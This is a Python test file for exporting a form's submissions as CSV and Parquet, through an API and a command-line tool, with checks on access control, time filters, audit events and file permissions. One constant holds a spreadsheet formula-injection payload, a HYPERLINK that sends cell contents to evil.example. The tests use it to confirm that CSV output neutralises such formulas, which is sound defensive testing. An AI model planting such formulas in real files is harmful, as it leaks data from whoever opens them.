"""A form's submissions as files: every field it ever had, hidden ones too, harmless, recorded, as far as one sees (FRM-07)."""

import csv
import io
import json
import sys
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from arro3.io import read_parquet
from click.testing import CliRunner, Result

from domain.account.events import DataExported
from domain.conversation.events import ConversationStarted
from domain.form.fields import Field
from infrastructure.cli.__main__ import postroom
from tests.support.api import Client, Reply, Served
from tests.support.forms import HIDDEN, SAID, FormDesk
from tests.support.world import World

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
BEFORE = ("submission_id", "submitted_at", "form_version", "contact_id", "conversation_id", "ticket_id")


@pytest.fixture
def world(api: Served) -> World:
    return api.world()


@pytest.fixture
def admin(api: Served, world: World) -> Client:
    return api.client(world)


def table_of(answer: Reply) -> list[dict[str, str]]:
    assert answer.status_code == 200, answer.text
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
    return list(csv.DictReader(io.StringIO(answer.get_data(as_text=True), newline="")))


def rows_of(answer: Reply) -> list[dict[str, Any]]:
    assert answer.status_code == 200, answer.text
    assert answer.headers["Content-Type"] == "application/vnd.apache.parquet"
    return rows_in(answer.get_data())


def rows_in(parquet: bytes) -> list[dict[str, Any]]:
    table = read_parquet(io.BytesIO(parquet)).read_all()
    names = table.column_names
    return [
        dict(zip(names, row, strict=True))
        for row in zip(*(column.to_pylist() for column in table.columns), strict=True)
    ]


def exported(world: World) -> list[tuple[str, int, tuple[str, ...]]]:
    return [(one.what, one.rows, one.filters) for one in world.happened(world.account, DataExported)]


@pytest.mark.req("FRM-07", "FRM-09", "PRV-10", "SE-04")
def test_what_was_sent_by_any_version_leaves_as_csv_and_parquet(
    api: Served, world: World, admin: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sys.modules["api.submission_sheet"], "BATCH", 2)
    desk = FormDesk(world, fields=(Field("email", "E-mail", "email", fills="contact.email"), HIDDEN))
    desk.submit(email="a@customer.example", campaign=FORMULA, colour="red")
    path = f"/forms/{desk.form_id}"
    api.caught_up()
    definition = admin.read(path)["definition"]
    asked = [{"name": "colour", "label": "Colour", "type": "choice", "options": ["red", "blue"]}]
    assert admin.put(path, {**definition, "fields": [*asked, definition["fields"][0]]}).status_code == 200
    for colour in ("blue", "red"):
        desk.submit(email=f"{colour}@customer.example", colour=colour)
    api.caught_up()
    table = table_of(admin.get(f"{path}/submissions.csv"))
    rows = rows_of(admin.get(f"{path}/submissions.parquet"))
    fields = ("field.colour", "field.email", "field.campaign", "other")
    assert tuple(table[0]) == tuple(rows[0]) == (*BEFORE, "ticket_skipped", "page", "files", *fields)
    assert [one["field.colour"] for one in table] == ["red", "blue", "red"]
    assert [one["form_version"] for one in rows] == [2, 2, 1]
    assert (table[2]["field.campaign"], rows[2]["field.campaign"]) == (f"'{FORMULA}", FORMULA)
    assert (table[0]["field.campaign"], rows[0]["field.campaign"]) == ("", None)
    assert [datetime.fromisoformat(one["submitted_at"]) for one in table] == [
        one["submitted_at"] for one in rows
    ]
    for text, value in zip(table, rows, strict=True):
        assert (text["submission_id"], text["page"]) == (value["submission_id"], value["page"])
    assert exported(world) == [("submissions", 3, (f"form_id={desk.form_id}",))] * 2


@pytest.mark.req("FRM-07")
def test_what_no_version_asks_for_is_kept_as_json_and_a_stretch_of_time_is_chosen(
    api: Served, world: World, admin: Client
) -> None:
    desk = FormDesk(world)
    desk.submit(files=(), **SAID, colour="czerwień")
    api.caught_up()
    path = f"/forms/{desk.form_id}/submissions"
    (row,) = rows_of(admin.get(f"{path}.parquet"))
    assert json.loads(row["other"]) == {"colour": ["czerwień"]}
    at = row["submitted_at"].isoformat().replace("+", "%2B")
    assert len(table_of(admin.get(f"{path}.csv?since={at}"))) == 1
    assert table_of(admin.get(f"{path}.csv?until={at}")) == []
    assert rows_of(admin.get(f"{path}.parquet?until={at}")) == []
    assert exported(world)[-1] == (
        "submissions", 0, (f"form_id={desk.form_id}", f"until={row['submitted_at'].isoformat()}"),
    )  # fmt: skip


@pytest.mark.req("FRM-07", "ACC-10", "SE-01")
def test_who_may_not_export_or_does_not_see_the_form_gets_nothing(
    api: Served, world: World, admin: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    desk = FormDesk(world)
    desk.submit()
    api.caught_up()
    agent, foreign = api.client(world, world.user("Ann")), api.client(api.world())
    for ending in ("csv", "parquet"):
        path = f"/forms/{desk.form_id}/submissions.{ending}"
        assert agent.get(path).status_code == 403
        assert foreign.get(path).status_code == 404
    monkeypatch.setattr(sys.modules["api.resources.exports"], "MOST", 0)
    assert admin.get(f"/forms/{desk.form_id}/submissions.parquet").json["code"] == "too_many_rows"
    assert exported(world) == []


def from_the_command_line(api: Served, *words: object) -> Result:
    environment = api.application.settings.to_env()
    return CliRunner().invoke(postroom, ["export", "submissions", *map(str, words)], env=environment)


@pytest.mark.req("FRM-07", "PRV-10", "PRV-08", "API-07")
def test_the_command_line_writes_the_same_to_a_file_of_its_own(
    api: Served, world: World, admin: Client, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sys.modules["api.submission_sheet"], "BATCH", 2)
    desk, file = FormDesk(world), tmp_path / "sent"
    gone = world.happened(desk.submit(), ConversationStarted)[0].contact_id
    for number in range(3):
        desk.submit(email=f"{number}@customer.example", campaign=FORMULA)
    api.caught_up()
    assert admin.post(f"/contacts/{gone}/erase").status_code == 200
    api.caught_up()
    path, which = f"/forms/{desk.form_id}/submissions", ("--account", world.account, "--form", desk.form_id)
    done = from_the_command_line(api, *which, "--csv", "--to", file)
    assert (done.exit_code, done.stdout) == (0, "4 submissions\n"), done.output
    assert file.read_bytes() == admin.get(f"{path}.csv").get_data()
    assert b"Broken lamp" not in file.read_bytes()
    assert file.stat().st_mode & 0o777 == 0o600
    done = from_the_command_line(api, *which, "--parquet", "--to", file)
    assert done.exit_code == 0, done.output
    rows = rows_in(file.read_bytes())
    assert rows == rows_of(admin.get(f"{path}.parquet"))
    assert [one["field.campaign"] for one in rows] == [FORMULA] * 3 + [None]
    done = from_the_command_line(api, *which, "--csv", "--to", file, "--until", "2001-02-03")
    assert len(file.read_text().splitlines()) == 1, done.output
    assert list(tmp_path.iterdir()) == [file]
    of_form = f"form_id={desk.form_id}"
    noted = [
        (one.rows, one.filters, one.envelope.actor) for one in world.happened(world.account, DataExported)
    ]
    operator, person = "operator:cli", f"user:{world.admin}"
    assert noted == [
        (4, (of_form,), operator), (4, (of_form,), person), (4, (of_form,), operator), (4, (of_form,), person),
        (0, (of_form, "until=2001-02-03T00:00:00+00:00"), operator),
    ]  # fmt: skip


@pytest.mark.req("FRM-07", "PRV-10", "SE-01")
def test_the_command_line_writes_and_records_nothing_of_what_is_not_there(
    api: Served, world: World, tmp_path: Path
) -> None:
    desk, foreign = FormDesk(world), api.world()
    api.caught_up()
    which = ("--account", foreign.account, "--form", desk.form_id, "--csv", "--to", tmp_path / "sent")
    assert "no such form" in from_the_command_line(api, *which).output
    own = ("--account", world.account, "--form", desk.form_id)
    assert "say --csv or --parquet" in from_the_command_line(api, *own, "--to", tmp_path / "sent").output
    nowhere = from_the_command_line(api, *own, "--csv", "--to", tmp_path / "no" / "sent")
    assert (nowhere.exit_code, "cannot be written" in nowhere.output) == (1, True)
    assert list(tmp_path.iterdir()) == []
    assert exported(world) == exported(foreign) == []
